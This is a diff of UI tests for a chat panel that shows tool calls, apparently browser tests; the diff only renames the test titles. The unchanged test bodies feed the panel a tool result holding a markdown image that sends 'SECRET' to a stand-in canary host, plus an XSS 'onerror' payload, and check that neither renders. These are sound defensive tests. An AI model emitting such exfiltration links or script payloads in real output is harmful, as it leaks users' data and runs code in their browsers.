@@ -37,7 +37,7 @@ const talk = [
 ];
 
 describe("a round of tools", () => {
-  test("says of each call what became of it, and opens with arguments and result as plain text", async () => {
+  test("shows the outcome of each call, and expands to arguments and result as plain text", async () => {
     const panel = await open();
     const poisoned = tools(
       run("fetch", "done", { text: "![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>", ms: 5 }),
@@ -53,7 +53,7 @@ describe("a round of tools", () => {
     expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
   });
 
-  test("shows a picture that is whole in itself, and no other", async () => {
+  test("shows only images whose data is included", async () => {
     const panel = await open();
     const images = [picture, "https://canary.example.invalid/p.png", "data:image/svg+xml;base64,PHN2Zy8+"];
     await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("show", "done", { images, ms: 1 }))]));
@@ -62,7 +62,7 @@ describe("a round of tools", () => {
     expect(await panel.page.locator(".tool-body img").count()).toBe(1);
   });
 
-  test("one that nobody is at offers Continue, one that runs does not", async () => {
+  test("offers Continue when no call is running, but not while one is", async () => {
     const panel = await open();
     await panel.send(snapshot(talk, stateOf({ answering: "t1" })));
     expect(await panel.page.getByRole("button", { name: "Continue" }).count()).toBe(0);
@@ -71,7 +71,7 @@ describe("a round of tools", () => {
     expect(await said(panel, "continueAnswer")).toEqual([{ type: "continueAnswer", messageId: "t1" }]);
   });
 
-  test("changes as its runs do, without folding what is open", async () => {
+  test("updates with its runs without collapsing open ones", async () => {
     const panel = await open();
     await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("add", "running"))], stateOf({ answering: "t1" })));
     await panel.page.getByRole("button", { name: /^add/ }).click();
@@ -84,7 +84,7 @@ describe("a round of tools", () => {
     expect(await panel.page.getByRole("button", { name: /^add/ }).innerText()).toContain("done");
   });
 
-  test("the button of the composer says how many are on, and why none can be used", async () => {
+  test("the composer's button shows how many are on, and why none can be used", async () => {
     const panel = await open();
     await panel.send(snapshot([], stateOf({ tools: { on: 3, unusable: null } })));
     await panel.page.getByRole("button", { name: "Tools: 3 on" }).click();
@@ -95,7 +95,7 @@ describe("a round of tools", () => {
     );
   });
 
-  test.each(themes)("has nothing for axe to say in $name, at 170 to 900 px", async (theme) => {
+  test.each(themes)("axe finds no problems in $name, at 170 to 900 px", async (theme) => {
     const panel = await open({ theme, width: 300, height: 900 });
     await panel.send(snapshot(talk));
     await panel.page.getByRole("button", { name: /^aside_readFile/ }).click();
